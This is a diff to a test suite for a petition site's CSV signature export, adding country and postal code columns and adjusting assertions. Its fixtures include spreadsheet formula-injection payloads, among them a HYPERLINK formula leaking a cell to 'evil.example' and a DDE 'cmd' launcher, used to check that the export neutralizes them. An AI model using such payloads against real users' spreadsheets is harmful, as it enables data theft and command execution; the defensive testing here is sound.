@@ -28,6 +28,7 @@ test.group('Signatures export', (group) => {
     assert,
   }) => {
     const petition = await PetitionFactory.apply('published', 'withOpposition', 'withCustomFields')
+      .merge({ askPostalCode: true })
       .with('user')
       .create()
     const owner = petition.user
@@ -40,6 +41,8 @@ test.group('Signatures export', (group) => {
       email: 'obrien@example.org',
       comment: 'Line one,\nline "two"\r\nline three',
       customFieldsData: { [district.id]: 'Подол, Київ', [age.id]: '42' },
+      country: 'IE',
+      postalCode: 'D02 X285',
       createdAt: signedAt,
       confirmedAt: signedAt.plus({ minutes: 5 }),
     }).create()
@@ -51,6 +54,8 @@ test.group('Signatures export', (group) => {
         email: 'olena@example.org',
         comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
         customFieldsData: { [district.id]: '@SUM(1+1)' },
+        // Signed before the form asked for a country.
+        country: null,
         createdAt: signedAt.plus({ hours: 1 }),
       })
       .create()
@@ -72,6 +77,9 @@ test.group('Signatures export', (group) => {
       'First name',
       'Last name',
       'E-mail',
+      'Country',
+      'Country code',
+      'Postal code',
       'Opinion',
       'District',
       'Age',
@@ -86,6 +94,9 @@ test.group('Signatures export', (group) => {
       'Smith, Jr.',
       'O"Brien',
       'obrien@example.org',
+      'Ireland',
+      'IE',
+      'D02 X285',
       'Line one,\nline "two"\r\nline three',
       'Подол, Київ',
       '42',
@@ -100,6 +111,9 @@ test.group('Signatures export', (group) => {
       'Олена',
       'Коваль',
       'olena@example.org',
+      'Unknown',
+      '',
+      '',
       `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
       `'@SUM(1+1)`,
       '',
@@ -128,6 +142,8 @@ test.group('Signatures export', (group) => {
       'First name',
       'Last name',
       'E-mail',
+      'Country',
+      'Country code',
       'Anonymous',
       'Verified',
       'Active',
@@ -147,7 +163,10 @@ test.group('Signatures export', (group) => {
     const enRows = parseCsv((await download(client, petition, owner)).text().slice(1))
     assert.notEqual(ukRows[0][1], enRows[0][1])
     assert.match(ukRows[0].join(' '), /[А-Яа-яІіЇїЄє]/)
-    assert.notEqual(ukRows[1][6], 'Yes')
+    assert.notEqual(ukRows[1][8], 'Yes')
+    // The country's name in the owner's language too.
+    assert.equal(ukRows[1][4], 'Україна')
+    assert.equal(enRows[1][4], 'Ukraine')
   })
 
   test('several chunks give every signature exactly once, in id order', async ({
@@ -196,7 +215,7 @@ test.group('Signatures export', (group) => {
     // A careful reader still gets the words back, one apostrophe per formula.
     const row = parseCsv(text)[1]
     assert.equal(row[1], `x;'=HYPERLINK("http://evil.example/?"&A1)`)
-    assert.equal(row[4], `fine\n'-2+3\r\n'@SUM(A1:A9);'=cmd|' /C calc'!A0`)
+    assert.equal(row[6], `fine\n'-2+3\r\n'@SUM(A1:A9);'=cmd|' /C calc'!A0`)
   })
 
   test("a member's exports are rate-limited", async ({ client, assert }) => {
